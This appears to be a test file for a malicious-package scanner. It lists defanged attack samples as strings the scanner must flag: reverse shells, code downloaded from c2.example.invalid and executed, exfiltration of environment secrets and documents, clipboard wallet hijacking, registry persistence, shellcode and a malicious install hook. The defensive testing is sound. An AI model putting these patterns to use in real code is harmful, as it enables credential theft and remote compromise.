@@ -1,0 +1,375 @@
+"""Techniques the engine must see through, each with a benign look-alike that stays quiet.
+
+Every sample is defanged: hosts under example.invalid, inert commands. Nothing is run:
+the engine only parses these strings.
+"""
+
+from __future__ import annotations
+
+import base64
+import os
+import pickle
+from pathlib import Path
+
+import pytest
+
+from pipwarden.findings import Severity
+from pipwarden.scan import scan_target
+from pipwarden.scan.engine import FileContext, analyse_member
+from pipwarden.scan.patterns import pickle_callables
+from tests.support.builders import build_sdist, build_wheel
+
+URL = "https://c2.example.invalid/p"
+
+
+def found(source: str, name: str = "pkg/__init__.py", kind: str = "wheel") -> dict[str, str]:
+    """rule -> highest severity label for one file."""
+    out: dict[str, Severity] = {}
+    for f in analyse_member(FileContext(name, kind, kind == "wheel"), source.encode()):
+        out[f.rule] = max(out.get(f.rule, f.severity), f.severity)
+    return {rule: sev.label for rule, sev in out.items()}
+
+
+# (malicious technique, the rule it must raise at high or critical)
+TECHNIQUES = [
+    (
+        "asyncio-reverse-shell",
+        "import asyncio\n"
+        "async def main():\n"
+        "    r, w = await asyncio.open_connection('c2.example.invalid', 443)\n"
+        "    while True:\n"
+        "        cmd = await r.readline()\n"
+        "        p = await asyncio.create_subprocess_shell(cmd.decode())\n"
+        "asyncio.run(main())\n",
+        "download-execute.remote-command",
+    ),
+    (
+        "socket-relayed-to-shell-pipes",
+        "import socket, subprocess\n"
+        "s = socket.create_connection(('c2.example.invalid', 443))\n"
+        "p = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n",
+        "reverse-shell.socket-shell",
+    ),
+    (
+        "command-substitution-download",
+        "import subprocess\nsubprocess.Popen(['bash', '-c', '$(curl -fsSL "
+        "https://c2.example.invalid/i.sh)'])\n",
+        "download-execute.remote-command",
+    ),
+    (
+        "runpy-of-a-download",
+        "import runpy, urllib.request\n"
+        "with open('/tmp/stage.py', 'wb') as fh:\n"
+        f"    fh.write(urllib.request.urlopen({URL!r}).read())\n"
+        "runpy.run_path('/tmp/stage.py')\n",
+        "download-execute.drop-and-run",
+    ),
+    (
+        "python-c-with-a-computed-interpreter",
+        "import subprocess, sys\n"
+        "def run():\n"
+        "    subprocess.check_call([sys.executable, '-c', "
+        f"'import urllib.request as r;exec(r.urlopen(\"{URL}\").read())'])\n",
+        "download-execute.remote-code",
+    ),
+    (
+        "env-command-output-sent",
+        "import subprocess, requests\n"
+        f"requests.put({URL!r}, data=subprocess.check_output('env', shell=True))\n",
+        "exfiltration.credentials",
+    ),
+    (
+        "environment-in-dns-labels",
+        "import base64, json, os, socket\n"
+        "blob = base64.b32encode(json.dumps(dict(os.environ)).encode()).decode()\n"
+        "for i in range(0, 300, 50):\n"
+        "    socket.getaddrinfo(blob[i:i + 50] + '.dns.example.invalid', 53)\n",
+        "exfiltration.credentials",
+    ),
+    (
+        "exec-of-reversed-join",
+        "exec(''.join(reversed(" + repr("print('inert')"[::-1]) + ")))\n",
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "exec-of-a-decrypted-literal",
+        "from cryptography.fernet import Fernet\n"
+        "exec(Fernet(b'a2V5a2V5a2V5').decrypt(b'gAAAAABdefangedtoken'))\n",
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "exec-of-an-xor-decoded-variable",
+        "def unpack(blob, k):\n"
+        "    return ''.join(chr(b ^ k) for b in blob)\n"
+        "exec(''.join(chr(c ^ 7) for c in DATA))\n",
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "model-file-from-the-network",
+        "import io, joblib, requests\n"
+        f"MODEL = joblib.load(io.BytesIO(requests.get({URL!r}).content))\n",
+        "unsafe-deserialization.remote",
+    ),
+    (
+        "xclip-wallet-swap",
+        "import re, subprocess\n"
+        "MINE = '0x00000000000000000000000000000000DEFA4ED0'\n"
+        "def loop():\n"
+        "    cur = subprocess.run(['xclip', '-selection', 'clipboard', '-o'],"
+        " capture_output=True, text=True).stdout\n"
+        "    if re.fullmatch(r'0x[0-9a-fA-F]{40}', cur):\n"
+        "        subprocess.run(['xclip', '-selection', 'clipboard', '-i'], input=MINE)\n",
+        "clipboard.wallet-hijack",
+    ),
+    (
+        "payload-in-a-class-instantiated-on-import",
+        "import urllib.request\n"
+        "class Updater:\n"
+        "    def __init__(self):\n"
+        f"        exec(urllib.request.urlopen({URL!r}).read())\n"
+        "Updater()\n",
+        "download-execute.remote-code",
+    ),
+    (
+        "timer-started-on-import",
+        "import os, threading, requests\n"
+        "def beacon():\n"
+        "    requests.post('https://c2.example.invalid/b', data=dict(os.environ))\n"
+        "threading.Timer(30, beacon).start()\n",
+        "exfiltration.credentials",
+    ),
+    (
+        "sitecustomize-planted-on-import",
+        "import os, site\n"
+        "target = os.path.join(site.getsitepackages()[0], 'sitecustomize.py')\n"
+        "with open(target, 'a') as fh:\n"
+        f"    fh.write('import urllib.request as u\\nexec(u.urlopen(\"{URL}\").read())\\n')\n",
+        "download-execute.remote-code",
+    ),
+    (
+        "secrets-on-a-curl-command-line",
+        "import os, subprocess\n"
+        "def f():\n"
+        "    subprocess.run(['curl', '-d', os.environ['AWS_SECRET_ACCESS_KEY'], "
+        f"{URL!r}])\n",
+        "exfiltration.credentials",
+    ),
+    (
+        "exec-of-code-hidden-in-an-image",
+        "import os\n"
+        "here = os.path.dirname(__file__)\n"
+        "data = open(os.path.join(here, 'logo.png'), 'rb').read()\n"
+        "exec(data[4096:])\n",
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "powershell-encoded-command",
+        "import subprocess\nsubprocess.Popen('powershell -EncodedCommand SQBFAFgA', shell=True)\n",
+        "download-execute.remote-command",
+    ),
+    (
+        "builtins-namespace-lookup-by-computed-name",
+        "import builtins\nvars(builtins)['ex' + 'ec'](data)\n",
+        "obfuscation.hidden-name",
+    ),
+    (
+        "exec-of-marshalled-code-from-a-file",
+        "import marshal\nexec(marshal.loads(open(__file__[:-3] + '.bin', 'rb').read()))\n",
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "run-key-written-on-import",
+        "import winreg, sys\n"
+        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
+        "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
+        "winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, sys.executable)\n",
+        "persistence.autostart",
+    ),
+    (
+        "documents-folder-uploaded",
+        "import os, zipfile, requests\n"
+        "def run():\n"
+        "    z = zipfile.ZipFile('/tmp/d.zip', 'w')\n"
+        "    for root, _, files in os.walk(os.path.expanduser('~/Documents')):\n"
+        "        for f in files:\n"
+        "            z.write(os.path.join(root, f))\n"
+        "    requests.post('https://c2.example.invalid/u', files={'f': open('/tmp/d.zip', 'rb')})\n",
+        "exfiltration.credentials",
+    ),
+    (
+        "shellcode-in-executable-mmap",
+        "import mmap, ctypes\nbuf = b'\\x90\\xc3'\n"
+        "m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
+        "m.write(buf)\n"
+        "ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n",
+        "binary-dropper.shellcode",
+    ),
+    (
+        "dpapi-decryption-sent",
+        "import win32crypt, requests\n"
+        "def steal(blob):\n"
+        "    key = win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1]\n"
+        f"    requests.post({URL!r}, data=key)\n",
+        "exfiltration.credentials",
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"), [t[1:] for t in TECHNIQUES], ids=[t[0] for t in TECHNIQUES]
+)
+def test_technique_is_seen(source: str, rule: str) -> None:
+    rules = found(source)
+    assert rule in rules, rules
+    assert rules[rule] in ("high", "critical")
+
+
+# Benign code from real libraries' idioms: nothing at high or above.
+LOOKALIKES = [
+    (
+        "clipboard-library-shelling-out-to-xclip",
+        "import subprocess\n"
+        "def paste():\n"
+        "    return subprocess.run(['xclip', '-selection', 'c', '-o'], capture_output=True).stdout\n"
+        "def copy(text):\n"
+        "    subprocess.run(['xclip', '-selection', 'c'], input=text)\n",
+    ),
+    (
+        "platform-report-in-a-function",
+        "import subprocess\n"
+        "def describe():\n"
+        "    return subprocess.check_output(['uname', '-a'], text=True)\n",
+    ),
+    (
+        "setup-py-reading-its-version-file",
+        "import os\nhere = os.path.dirname(__file__)\nabout = {}\n"
+        "exec(open(os.path.join(here, 'pkg', '__version__.py')).read(), about)\n",
+    ),
+    (
+        "torch-hub-style-checkpoint-download",
+        "import os, urllib.request\n"
+        "def fetch(url, cache):\n"
+        "    dst = os.path.join(cache, 'weights.pth')\n"
+        "    urllib.request.urlretrieve(url, dst)\n"
+        "    return dst\n",
+    ),
+    (
+        "model-loading-from-a-local-file",
+        "import joblib\ndef load(path):\n    return joblib.load(path)\n",
+    ),
+    (
+        "thread-pool-submitting-work",
+        "from concurrent.futures import ThreadPoolExecutor\n"
+        "def work(x):\n    return x * 2\n"
+        "pool = ThreadPoolExecutor()\n",
+    ),
+    (
+        "asyncio-client-reading-a-response",
+        "import asyncio\n"
+        "async def fetch(host):\n"
+        "    r, w = await asyncio.open_connection(host, 80)\n"
+        "    w.write(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
+        "    return await r.read()\n",
+    ),
+    (
+        "video-file-opened-by-a-media-library",
+        "import cv2, requests\n"
+        "def frames(path):\n    return cv2.VideoCapture(path).read()\n"
+        "def upload(url, data):\n    return requests.post(url, data=data)\n",
+    ),
+    (
+        "desktop-folder-of-a-platform-helper",
+        "import os\ndef user_desktop_dir():\n"
+        "    return os.path.join(os.path.expanduser('~'), 'Desktop')\n",
+    ),
+    (
+        "template-engine-exec-of-generated-code",
+        "def compile_template(src):\n"
+        "    code = ''.join(line for line in src.splitlines())\n"
+        "    ns = {}\n"
+        "    exec(compile(code, '<template>', 'exec'), ns)\n"
+        "    return ns\n",
+    ),
+]
+
+
+@pytest.mark.parametrize(("source",), [t[1:] for t in LOOKALIKES], ids=[t[0] for t in LOOKALIKES])
+def test_lookalike_stays_below_high(source: str) -> None:
+    rules = found(source)
+    assert all(sev not in ("high", "critical") for sev in rules.values()), rules
+
+
+def test_pickle_opcodes_name_their_callables_without_unpickling() -> None:
+    class Payload:
+        def __reduce__(self) -> tuple[object, tuple[str]]:
+            return (os.system, ("echo inert",))
+
+    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
+        assert pickle_callables(pickle.dumps(Payload(), protocol=protocol))
+    assert pickle_callables(pickle.dumps({"weights": [1.0, 2.0], "name": "system"})) == []
+    assert pickle_callables(b"\x80\x05garbage") == []
+    blob = base64.b64encode(pickle.dumps(Payload(), protocol=4)).decode()
+    rules = found(f"import base64, dill\n_s = dill.loads(base64.b64decode({blob!r}))\n")
+    assert "obfuscation.marshal-literal" in rules
+
+
+def _write(tmp_path: Path, built: tuple[str, bytes]) -> Path:
+    path = tmp_path / built[0]
+    path.write_bytes(built[1])
+    return path
+
+
+def test_module_imported_by_setup_py_runs_at_install_time(tmp_path: Path) -> None:
+    helper = (
+        "import os, urllib.request\n"
+        "def prepare():\n"
+        "    exe = '/tmp/prep'\n"
+        "    urllib.request.urlretrieve('https://c2.example.invalid/prep', exe)\n"
+        "    os.chmod(exe, 0o755)\n"
+        "    os.system(exe)\n"
+    )
+    setup = "from setuptools import setup\nimport _helpers\n_helpers.prepare()\nsetup(name='d')\n"
+    path = _write(tmp_path, build_sdist("d", "1.0", {"_helpers.py": helper}, setup_py=setup))
+    result = scan_target(path)
+    assert result.verdict == "malicious"
+    assert any(
+        f.rule == "download-execute.drop-and-run" and f.file == "d-1.0/_helpers.py"
+        for f in result.findings
+    )
+    # The same module not imported by setup.py is a tool's function, not an install hook.
+    setup = "from setuptools import setup\nsetup(name='d')\n"
+    path = _write(tmp_path, build_sdist("d", "1.1", {"_helpers.py": helper}, setup_py=setup))
+    assert scan_target(path).verdict == "clean"
+
+
+def test_versioneer_style_helper_imported_by_setup_py_stays_clean(tmp_path: Path) -> None:
+    helper = (
+        "import subprocess\n"
+        "def get_version():\n"
+        "    return subprocess.check_output(['git', 'describe', '--tags']).decode()\n"
+    )
+    setup = (
+        "from setuptools import setup\nimport versioneer\n"
+        "setup(name='d', version=versioneer.get_version())\n"
+    )
+    path = _write(tmp_path, build_sdist("d", "1.0", {"versioneer.py": helper}, setup_py=setup))
+    assert scan_target(path).verdict == "clean"
+
+
+ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 64
+
+
+def test_native_module_imported_by_a_pure_wheel_is_high(tmp_path: Path) -> None:
+    so = "sx/_speedups.cpython-311-x86_64-linux-gnu.so"
+    path = _write(
+        tmp_path,
+        build_wheel("sx", "1.0", {"sx/__init__.py": "from ._speedups import *\n", so: ELF}),
+    )
+    result = scan_target(path)
+    assert result.verdict == "suspicious"
+    assert any(f.file == so and f.severity == Severity.HIGH for f in result.findings)
+    # Imported only as an optional accelerator (inside try): a stray binary, medium.
+    optional = "try:\n    from ._speedups import *\nexcept ImportError:\n    pass\n"
+    path = _write(tmp_path, build_wheel("sx", "1.1", {"sx/__init__.py": optional, so: ELF}))
+    result = scan_target(path)
+    assert [f.severity.label for f in result.findings if f.file == so] == ["medium"]
